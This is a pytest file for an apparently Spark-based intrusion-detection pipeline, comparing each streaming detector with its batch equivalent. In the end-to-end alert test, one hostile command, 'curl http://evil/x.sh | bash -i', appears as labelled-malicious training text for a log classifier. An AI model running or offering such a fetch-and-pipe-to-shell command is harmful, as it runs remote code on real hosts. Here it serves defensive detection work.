"""Each stream run over files with availableNow against its batch twin."""

import random
from dataclasses import replace

import pytest
from pyspark.sql import functions as F

from conftest import SECOND, random_keys
from test_patterns import SCHEMA as EVENT_SCHEMA, events
from watchline.config import DEFAULTS
from watchline.operators import alerts, classify, cooldown, detect, fusion, gateway, patterns as P, profiler, protocol, routing, trust
from watchline.sources import sinks
from watchline.streaming import alerting, folds, windows


def files(spark, tmp_path, rows, schema, parts=3, ts=2):
    """Rows in time order, cut into files at instants; returns (stream, batch DataFrame)."""
    rows = sorted(rows, key=lambda r: (r[ts], r[1]))
    path = tmp_path / "in"
    cuts, start = [], 0
    for p in range(parts):
        end = len(rows) * (p + 1) // parts
        while 0 < end < len(rows) and rows[end][ts] == rows[end - 1][ts]:
            end += 1
        cuts.append(rows[start:end])
        start = max(start, end)
    for p, part in enumerate(cuts):
        if part:
            spark.createDataFrame(part, schema).coalesce(1).write.mode("append").parquet(str(path))
    batch = spark.read.parquet(str(path))
    stream = spark.readStream.schema(batch.schema).option("maxFilesPerTrigger", 1).parquet(str(path))
    return stream, batch


def drain(spark, tmp_path, df, mode="append"):
    out = str(tmp_path / "out")
    query = (df.writeStream.format("parquet").outputMode(mode).option("checkpointLocation", str(tmp_path / "cp"))
             .trigger(availableNow=True).start(out))
    query.awaitTermination(300)
    assert query.exception() is None
    return spark.read.schema(df.schema).parquet(out).collect()


DELAY = {"delay": "2 hours"}
BASE = "source_ip string, event_id long, ts_us long"


def test_dedup(spark, tmp_path):
    rows = [(*r, "h", "s", "m") for r in random_keys(20, 60, 2000, 1, boundaries=(120,))]
    stream, batch = files(spark, tmp_path, rows, BASE + ", hostname string, service string, message string")
    got = {r.event_id for r in drain(spark, tmp_path, folds.dedup(stream, **DELAY)) if not r.deduplicated}
    assert got == {r.event_id for r in detect.dedup_anchors(batch).collect()}


def state_rows(spark, tmp_path, df):
    """The rows that the last micro-batch with rows left in the state of each operator."""
    query = (df.writeStream.format("parquet").option("checkpointLocation", str(tmp_path / "cp")).trigger(availableNow=True)
             .start(str(tmp_path / "out")))
    query.awaitTermination(300)
    return max(sum(o["numRowsTotal"] for o in p["stateOperators"]) for p in query.recentProgress)


def test_state_is_kept_by_group_and_not_by_key(spark, tmp_path):
    rows = [(f"k{i}", i, (1000 + i) * SECOND, "h", None if i % 2 else "s", "m") for i in range(1500)]
    stream, _ = files(spark, tmp_path, rows, BASE + ", hostname string, service string, message string", parts=1)
    out = folds.dedup(stream, **DELAY)
    assert 0 < state_rows(spark, tmp_path, out) <= folds.GROUPS
    got = spark.read.parquet(str(tmp_path / "out")).collect()
    assert {(r.source_ip, r.service, r.event_id, r.deduplicated) for r in got} == {(r[0], r[4], r[1], False) for r in rows}


def test_patterns(spark, tmp_path):
    stream, batch = files(spark, tmp_path, events(seed=8, keys=20), EVENT_SCHEMA)
    got = drain(spark, tmp_path, folds.patterns(stream, P.builtin_patterns(), **DELAY))
    want = P.PatternSet().alerts(batch).collect()
    pick = lambda rows: {(r.source_ip, r.pattern_name, r.event_id, r.matched_count, r.severity) for r in rows}
    assert pick(got) == pick(want) and want


def test_flood(spark, tmp_path):
    cfg = replace(DEFAULTS, flood_rate=1.0)
    stream, batch = files(spark, tmp_path, random_keys(15, 120, 200, 5, boundaries=(5, 30)), BASE)
    got = drain(spark, tmp_path, folds.flood(stream, cfg=cfg, **DELAY))
    assert {(r.event_id, r.flag) for r in got} == {(r.event_id, r.flag) for r in cooldown.flood(batch, cfg=cfg).collect()}


def test_gateway(spark, tmp_path):
    rng = random.Random(2)
    rows = [(*r, rng.randrange(6), rng.randrange(3)) for r in random_keys(4, 200, 20_000, 2)]
    stream, batch = files(spark, tmp_path, rows, "gateway_id string, event_id long, ts_us long, forwarded long, dropped long")
    pick = lambda rows: {(r.event_id, round(r.sprt_statistic, 9), r.estimated_pdp, r.observation_count) for r in rows}
    got = drain(spark, tmp_path, folds.gateway_sprt(stream, **DELAY))
    assert pick(got) == pick(gateway.gateway_alerts(batch).collect()) and got


def test_trust(spark, tmp_path):
    rng = random.Random(3)
    rows = [(*r, rng.choice(["benign", "suspicious", "malicious"])) for r in random_keys(10, 60, 600, 3)]
    stream, batch = files(spark, tmp_path, rows, BASE + ", predicted_label string")
    got = {r.event_id: r.score for r in drain(spark, tmp_path, folds.trust_path(stream, **DELAY))}
    assert got == {r.event_id: r.score for r in trust.trust_path(batch).collect()}


def test_protocol(spark, tmp_path):
    rng = random.Random(4)
    states = ["con", "ack", "rst", "terminal"]
    rows = [(*r, "CoAP", rng.choice(states), rng.choice(states + [None])) for r in random_keys(10, 60, 600, 4)]
    stream, batch = files(spark, tmp_path, rows, BASE + ", protocol string, event_state string, next_state string")
    pick = lambda rows: {(r.event_id, r.from_state, r.to_state) for r in rows}
    got = drain(spark, tmp_path, folds.protocol_violations(stream, **DELAY))
    assert pick(got) == pick(protocol.protocol_violations(batch).collect()) and got


def test_motion(spark, tmp_path):
    rng = random.Random(6)
    rows = [(*r, rng.random() < 0.1) for r in random_keys(10, 60, 900, 6, boundaries=(30,))]
    rows = far_future(far_future(rows, (True,)), (False,))
    stream, batch = files(spark, tmp_path, rows, BASE + ", moved boolean")
    got = drain(spark, tmp_path, folds.with_last_motion(stream.filter("not moved"), stream.filter("moved"), delay="0 seconds"))
    got = [r for r in got if r.event_id < 10 ** 9]
    batch = batch.filter("source_ip <> 'zz-end'")
    want = fusion.with_last_motion(batch.filter("not moved"), batch.filter("moved")).collect()
    assert {(r.event_id, r.motion_ts_us) for r in got} == {(r.event_id, r.motion_ts_us) for r in want}
    assert any(r.motion_ts_us for r in want)


def test_dense_motion_keeps_one_row_per_bucket_and_salt(spark, tmp_path):
    """Join state held every row and met each event of a bucket with each motion in it."""
    rows = [("k", i, 1_000_000_000 * SECOND + i * 100, i % 3 == 0) for i in range(3000)] + [("k", None, 1_000_000_000 * SECOND + 50, False)]
    stream, batch = files(spark, tmp_path, [r for r in rows if r[1] is not None], BASE + ", moved boolean", parts=1)
    spark.createDataFrame(rows[-1:], BASE + ", moved boolean").coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
    end = [("zz-end", 10 ** 9, 2_000_000_000 * SECOND, m) for m in (True, False)]
    out = folds.with_last_motion(stream.filter("not moved"), stream.filter("moved"), delay="0 seconds")
    assert 0 < state_rows(spark, tmp_path, out) <= 2 * folds.SALTS
    spark.createDataFrame(end, BASE + ", moved boolean").coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
    state_rows(spark, tmp_path, out)
    got = {(r.event_id, r.motion_ts_us) for r in spark.read.parquet(str(tmp_path / "out")).collect()}
    want = {(i, t // 300 * 300) for _, i, t, moved in rows[:-1] if not moved for t in [i * 100]}
    assert got == {(i, 1_000_000_000 * SECOND + t) for i, t in want} | {(None, 1_000_000_000 * SECOND)}


def far_future(rows, shape):
    """A last row that moves the watermark past every window."""
    return rows + [("zz-end", 10 ** 9, max(r[2] for r in rows) + 10 * 86400 * SECOND, *shape)]


def test_ticks_feed_detectors(spark, tmp_path):
    rng = random.Random(7)
    rows, i = [], 0
    for node in range(4):
        for tick in range(40):
            for _ in range(rng.randrange(1, 9)):
                rows.append((f"n{node}", i, (tick * 60 + rng.randrange(60)) * SECOND))
                i += 1
    stream, batch = files(spark, tmp_path, far_future(rows, ()), BASE)
    cfg = replace(DEFAULTS, blackhole_sigma=1.0, amof_threshold=0.3)
    ticks = windows.tick_counts(stream, 60.0, delay="0 seconds")
    query = (ticks.writeStream.option("checkpointLocation", str(tmp_path / "cp")).trigger(availableNow=True)
             .foreachBatch(windows.blackhole_on_ticks(str(tmp_path / "bh"), cfg=cfg)).start())
    query.awaitTermination(300)
    full = (batch.filter("source_ip <> 'zz-end'").withColumn("message", F.lit("")))
    counts = routing.forward_ticks(full, 60 * SECOND)
    stored = spark.read.parquet(str(tmp_path / "bh/ticks"))
    assert {(r.source_ip, r.tick, r.packet_count) for r in stored.collect()} == {tuple(r) for r in counts.collect()}
    want = {(r.source_ip, r.tick) for r in routing.blackhole(counts, "source_ip", cfg).collect()}
    assert {(r.source_ip, r.tick) for r in spark.read.parquet(str(tmp_path / "bh/alerts")).collect()} == want and want
    run = windows.amof_on_ticks(str(tmp_path / "am"), cfg=cfg)
    for batch_id, part in enumerate(("tick < 15", "tick >= 15")):
        run(counts.filter(part), batch_id)
    want = {(r.source_ip, r.tick) for r in profiler.amof(counts, "source_ip", cfg).collect()}
    assert {(r.source_ip, r.tick) for r in spark.read.parquet(str(tmp_path / "am/alerts")).collect()} == want and want


def test_consensus_windows(spark, tmp_path):
    rng = random.Random(8)
    rows = [(*r, f"s{rng.randrange(4)}", rng.choice(["malicious", "suspicious", "benign"]), rng.choice([0.5, 0.9]))
            for r in random_keys(4, 60, 900, 8)]
    stream, batch = files(spark, tmp_path, far_future(rows, ("s0", "benign", 0.9)), BASE + ", sniffer_id string, predicted_label string, confidence double")
    got = {(r.w.start.timestamp(), r.source_ip): (r.malicious_votes, r.suspicious_votes, r.verdict)
           for r in drain(spark, tmp_path, windows.consensus(stream, delay="0 seconds"))}
    sent = [r for r in rows if r[4] != "benign" and r[5] >= 0.75]
    want = {}
    for (start, ip) in got:
        seen = {}
        for r in sent:
            if r[0] == ip and start <= r[2] / SECOND < start + 300:
                seen[r[3]] = seen.get(r[3]) == "malicious" and "malicious" or r[4]
        bad = sum(v == "malicious" for v in seen.values())
        total = len(seen)
        want[(start, ip)] = (bad, total - bad, "malicious" if bad / total >= 0.6 else "suspicious")
    assert got == want and len(got) > 10


def test_sessions(spark, tmp_path):
    rows = [("c", i, t * SECOND) for i, t in enumerate([0, 100, 400, 701, 900, 2000])]
    stream, batch = files(spark, tmp_path, far_future(rows, ()), BASE)
    got = {(r.start_us // SECOND, r.end_us // SECOND, r.starts) for r in drain(
        spark, tmp_path, windows.recording_sessions(stream, "source_ip", delay="0 seconds"))}
    assert got == {(0, 700, 3), (701, 1200, 2), (2000, 2300, 1)}


def test_alert_stream_end_to_end(spark, tmp_path):
    texts = [("curl http://evil/x.sh | bash -i", "malicious"), ("Failed password for root", "suspicious"), ("all quiet here", "benign")]
    train = spark.createDataFrame([(m, l, "10.0.0.1", "h", "svc") for m, l in texts for _ in range(10)],
                                  "text string, label string, source_ip string, hostname string, service string")
    model = classify.train_text_classifier(train, dims=2 ** 10, max_iter=10)
    rng = random.Random(9)
    rows = [(k, i, ts, "h", "svc", rng.choice(texts)[0]) for k, i, ts in random_keys(6, 40, 900, 9)]
    rows += [("127.0.0.1", 10 ** 6, rows[0][2], "h", "svc", texts[0][0])]
    stream, batch = files(spark, tmp_path, rows, EVENT_SCHEMA)
    det = alerting.detections_stream(alerting.scored_stream(stream, model), delay="2 hours")
    query = alerting.run_alerts(det, str(tmp_path / "alerts"), str(tmp_path / "cp"), str(tmp_path / "outbox"), available_now=True)
    query.awaitTermination(300)
    assert query.exception() is None
    whole = detect.detect_with_model(batch, model)
    got = {(r.event_id, r.severity, r.honeypot_sent, r.explanation) for r in sinks.read_alerts(spark, str(tmp_path / "alerts")).collect()}
    want = {(r.event_id, r.severity, r.honeypot_sent, r.explanation) for r in sinks.stored_form(whole).collect()}
    assert got == want and got
    assert spark.read.parquet(str(tmp_path / "outbox")).count() == alerts.forwardable(whole).count() > 0
